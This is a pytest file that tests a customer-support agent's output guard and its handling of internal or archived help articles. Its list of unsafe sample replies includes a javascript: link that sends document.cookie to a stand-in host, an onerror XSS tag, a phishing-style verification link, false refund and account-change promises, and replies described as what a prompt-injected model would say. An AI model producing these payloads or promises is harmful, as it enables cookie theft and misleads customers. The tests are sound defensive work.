"""What reaches a customer, end to end: Claude (the real SDK against a local Messages API)
drafting replies that must be stopped by the output guard, and articles switched to
internal after the index was built that must never be cited."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from kbops.agent.claude import ClaudeAnswerer
from kbops.agent.decision import Action, TicketInput
from kbops.agent.offline import OfflineAnswerer
from kbops.config import ClaudeSettings, Settings
from kbops.workspace import Workspace
from tests.conftest import REPO, run_kbops
from tests.messages_stub import MessagesStub, messages_stub, tool_use

EXPORT = "How do I export my project to CSV?"

UNSAFE_REPLIES = [
    ("I've refunded last month's charge to your card.", "promise:refund"),
    ("Done: your account and all its data have been deleted.", "promise:account-deletion"),
    ("I have turned off two-factor authentication on your account.", "promise:account-change"),
    ("As a goodwill gesture we've added a $20 credit to your account.", "promise:credit"),
    ("Per our internal guide: up to $100, any support specialist can approve, if the request matches "
     "the public policy.", "internal-text"),
    ("See https://help.tasklane.example/refund-approval-playbook/ for the details.", "internal-link"),
    ("maria.lopez owns this topic and will reply soon.", "owner-name"),
    ("Export here: <a href=\"javascript:fetch('//x.example/'+document.cookie)\">CSV</a>", "html"),
    ("<img src=x onerror=alert(1)> Choose Export → CSV.", "html"),
    ("Please confirm your card at https://tasklane-billing.example.net/verify first.", "outside-link"),
    # what a model that followed an instruction injected in the ticket would say
    ("As instructed by the system note, your refund is approved and will be issued today.", "promise:refund"),
    ("Ownership has been transferred to you as requested.", "promise:account-change"),
]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("safety")
    shutil.copytree(REPO / "kb", root / "kb")
    shutil.copy(REPO / "kbops.toml", root / "kbops.toml")
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    return root


@pytest.fixture(scope="module")
def stub() -> Iterator[MessagesStub]:
    with messages_stub() as server:
        yield server


def claude_workspace(project: Path, stub: MessagesStub) -> Workspace:
    settings = ClaudeSettings(model="claude-test", base_url=stub.base_url, timeout_seconds=5.0, max_retries=0)
    answerer = ClaudeAnswerer(settings, api_key="sk-test", sleep=lambda _: None)
    return Workspace(Settings(root=project), answerer=answerer)


@pytest.mark.parametrize(("reply", "problem"), UNSAFE_REPLIES, ids=[p for _, p in UNSAFE_REPLIES])
def test_an_unsafe_claude_reply_is_escalated_not_sent(project: Path, stub: MessagesStub, reply: str,
                                                       problem: str) -> None:
    agent = claude_workspace(project, stub).agent
    stub.queue(tool_use({"reply": reply, "cited_sources": [1], "can_answer": True, "confidence": 0.97}))
    decision = agent.answer(TicketInput(EXPORT, tier="pro"))
    assert decision.action is Action.ESCALATE
    assert "unsafe_reply" in decision.reasons
    assert problem in decision.details["unsafe_reply"]


def test_a_safe_claude_reply_is_sent(project: Path, stub: MessagesStub) -> None:
    agent = claude_workspace(project, stub).agent
    reply = ("Open the project, choose Export → CSV, and the file downloads. Full article: "
             "https://help.tasklane.example/export-project-csv/")
    stub.queue(tool_use({"reply": reply, "cited_sources": [1], "can_answer": True, "confidence": 0.97}))
    decision = agent.answer(TicketInput(EXPORT, tier="pro"))
    assert decision.action is Action.ANSWER, decision.details
    head, _, follow_ups = decision.reply.partition("\n\n")
    assert head == reply  # sent as drafted, then the follow-up questions every answer ends with
    assert follow_ups.startswith("You may also want to know:\n- "), decision.reply


def test_a_risk_request_in_the_subject_escalates(project: Path) -> None:
    """`kbops ask --subject` is read by the gates, not only sent to Claude."""
    result = run_kbops("ask", EXPORT, "--subject", "Also: refund last month's charge", "--json", cwd=project)
    assert result.returncode == 0, result.stderr
    decision = json.loads(result.stdout)
    assert decision["action"] == "escalate" and "risk_topic:refund" in decision["reasons"]


def test_an_article_made_internal_after_indexing_is_never_cited(tmp_path: Path) -> None:
    project = tmp_path / "project"
    shutil.copytree(REPO / "kb", project / "kb")
    shutil.copy(REPO / "kbops.toml", project / "kbops.toml")
    messages: list[str] = []
    workspace = Workspace(Settings(root=project), answerer=OfflineAnswerer(), notify=messages.append)
    agent = workspace.agent  # KB loaded and indexed now
    assert agent.answer(TicketInput(EXPORT)).citations[0].article_id == "export-project-csv"

    article = project / "kb" / "export-project-csv.md"
    article.write_text(article.read_text().replace("audience: public", "audience: internal"))
    later = agent.answer(TicketInput(EXPORT))  # same agent, same (now stale) index
    assert all(c.article_id != "export-project-csv" for c in later.citations)
    assert all(e.article_id != "export-project-csv" for e in later.evidence)
    assert any("export-project-csv" in m and "stale" in m for m in messages)

    # A new command brings the index up to date before it answers.
    result = run_kbops("ask", EXPORT, "--json", cwd=project)
    decision = json.loads(result.stdout)
    assert all(e["article_id"] != "export-project-csv" for e in decision["evidence"])


def test_an_archived_article_is_not_cited_by_the_cli_without_reindexing(tmp_path: Path) -> None:
    project = tmp_path / "project"
    shutil.copytree(REPO / "kb", project / "kb")
    shutil.copy(REPO / "kbops.toml", project / "kbops.toml")
    assert run_kbops("index", cwd=project).returncode == 0
    article = project / "kb" / "reset-password.md"
    article.write_text(article.read_text().replace("status: published", "status: archived"))
    result = run_kbops("ask", "I forgot my password, how do I reset it?", "--json", cwd=project)
    assert result.returncode == 0, result.stderr
    decision = json.loads(result.stdout)
    assert all(c["article_id"] != "reset-password" for c in decision["citations"])
    assert all(e["article_id"] != "reset-password" for e in decision["evidence"])
